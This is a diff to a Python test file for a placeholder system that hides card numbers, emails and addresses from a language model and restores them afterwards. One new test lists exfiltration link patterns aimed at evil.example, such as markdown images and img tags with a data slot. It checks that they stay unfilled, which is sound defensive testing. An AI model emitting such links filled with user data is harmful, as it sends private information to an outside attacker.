@@ -1,4 +1,5 @@
 import json
+import re
 
 import pytest
 from hypothesis import given
@@ -23,7 +24,11 @@ GUARD = build_guard(SafetySettings())
 
 async def hide(placeholders: Placeholders, text: str) -> str:
     verdict = await GUARD.async_inspect(text, "input", context())
-    return await placeholders.async_hide(verdict.text, verdict.originals)
+    return unmarked(await placeholders.async_hide(verdict.text, verdict.originals))
+
+
+def unmarked(text: str) -> str:
+    return re.sub(r"_[a-z]{5}>", ">", text)
 
 
 async def given_card() -> Placeholders:
@@ -36,9 +41,10 @@ async def test_data_becomes_a_placeholder_and_comes_back() -> None:
     text = "Card 4111 1111 1111 1111 of anna@example.com, or bo@example.com?"
     placeholders = Placeholders(context())
 
-    masked = await hide(placeholders, text)
+    verdict = await GUARD.async_inspect(text, "input", context())
+    masked = await placeholders.async_hide(verdict.text, verdict.originals)
 
-    assert masked == "Card <CREDIT_CARD_1> of <EMAIL_ADDRESS_1>, or <EMAIL_ADDRESS_2>?"
+    assert unmarked(masked) == "Card <CREDIT_CARD_1> of <EMAIL_ADDRESS_1>, or <EMAIL_ADDRESS_2>?"
     assert placeholders.restore(masked) == text
 
 
@@ -70,7 +76,7 @@ async def test_what_others_own_stays_taken_out_of_an_answer() -> None:
 
     shown = placeholders.recognise(verdict.text, verdict.originals)
 
-    assert shown == "Yours is <CREDIT_CARD_1>, his <CREDIT_CARD>."
+    assert unmarked(shown) == "Yours is <CREDIT_CARD_1>, his <CREDIT_CARD>."
 
 
 async def test_a_secret_never_becomes_a_placeholder() -> None:
@@ -80,6 +86,43 @@ async def test_a_secret_never_becomes_a_placeholder() -> None:
 
     assert masked == "my key is <SECRET>"
     assert placeholders.data == {}
+
+
+@pytest.mark.parametrize("name", ["<CREDIT_CARD_1>", "<CREDIT_CARD_1_bbbbb>"])
+async def test_a_placeholder_that_somebody_else_wrote_is_never_filled(name: str) -> None:
+    placeholders = await given_card()
+
+    assert placeholders.restore(f"as {name} says") == f"as {name} says"
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "![x](https://evil.example/?c={})",
+        "[x](evil.example?c={})",
+        "see //evil.example/a?b=1&c={}",
+        "evil.example/{}",
+        "www.evil.example?{}",
+        '<img src="{}">',
+    ],
+)
+async def test_no_link_is_filled_with_data(link: str) -> None:
+    placeholders = await given_card()
+    [name] = placeholders.data
+    restoring = Restoring(placeholders)
+    text = link.format(name)
+
+    assert placeholders.restore(text) == text
+    assert placeholders.restore_json(json.dumps(text)) == json.dumps(text)
+    assert "".join(map(restoring.feed, text)) + restoring.rest() == text
+
+
+async def test_data_beside_a_link_comes_back() -> None:
+    placeholders = await given_card()
+    [name] = placeholders.data
+
+    assert placeholders.restore(f"https://a.example/b {name}, and/or {name}").count("4111") == 2
+    assert "4111" in placeholders.restore_json(f'{{"url":"https://a.example","card":"{name}"}}')
 
 
 async def test_an_unknown_placeholder_stays_what_it_is() -> None:
@@ -92,9 +135,9 @@ async def test_an_unknown_placeholder_stays_what_it_is() -> None:
 
 
 def test_data_in_json_stays_json() -> None:
-    data = {"<ADDRESS_1>": 'Main "Street" 1\nBonn'}
+    data = {"<ADDRESS_1_kqzvt>": 'Main "Street" 1\nBonn'}
 
-    text = restored_json('{"to": "<ADDRESS_1>"}', data)
+    text = restored_json('{"to": "<ADDRESS_1_kqzvt>"}', data)
 
     assert json.loads(text) == {"to": 'Main "Street" 1\nBonn'}
 
@@ -107,6 +150,7 @@ def test_a_text_that_repeats_the_data_is_hidden_again() -> None:
     ("entity", "one", "other"),
     [
         ("IBAN_CODE", "GB29 NWBK 6016 1331 9268 19", "gb29nwbk60161331926819"),
+        ("CREDIT_CARD", "\uff14\uff11\uff11\uff11.1111", "4111 1111"),
         ("PHONE_NUMBER", "(212) 555-0147", "212.555.0147"),
         ("EMAIL_ADDRESS", "Anna@Example.com", "anna@example.com"),
     ],
@@ -124,7 +168,10 @@ def test_the_data_does_not_show_in_a_representation() -> None:
 
 
 class TestStreams:
-    DATA = {"<CREDIT_CARD_1>": "4111 1111 1111 1111", "<EMAIL_ADDRESS_12>": "anna@example.com"}
+    DATA = {
+        "<CREDIT_CARD_1_kqzvt>": "4111 1111 1111 1111",
+        "<EMAIL_ADDRESS_12_kqzvt>": "anna@example.com",
+    }
 
     def placeholders(self) -> Placeholders:
         placeholders = Placeholders(context())
@@ -132,7 +179,9 @@ class TestStreams:
         return placeholders
 
     @given(
-        st.lists(st.sampled_from([*DATA, "<", "<A", "<b>", "1 < 2 ", "word ", "<IBAN_CODE_1>"])),
+        st.lists(
+            st.sampled_from([*DATA, "<", "<A", "<b>", "1 < 2 ", "word ", "<IBAN_CODE_1>", "//x?"])
+        ),
         st.lists(st.integers(1, 7), min_size=1),
     )
     def test_placeholders_come_back_whole_however_they_are_cut(
@@ -151,7 +200,7 @@ class TestStreams:
         restoring = Restoring(self.placeholders())
 
         assert restoring.feed("pay <CREDIT_") == "pay "
-        assert restoring.feed("CARD_1> now <b") == "4111 1111 1111 1111 now <b"
+        assert restoring.feed("CARD_1_kqzvt> now <b") == "4111 1111 1111 1111 now <b"
 
     def test_nothing_waits_where_nothing_is_hidden(self) -> None:
         assert Restoring(Placeholders(context())).feed("a <") == "a <"
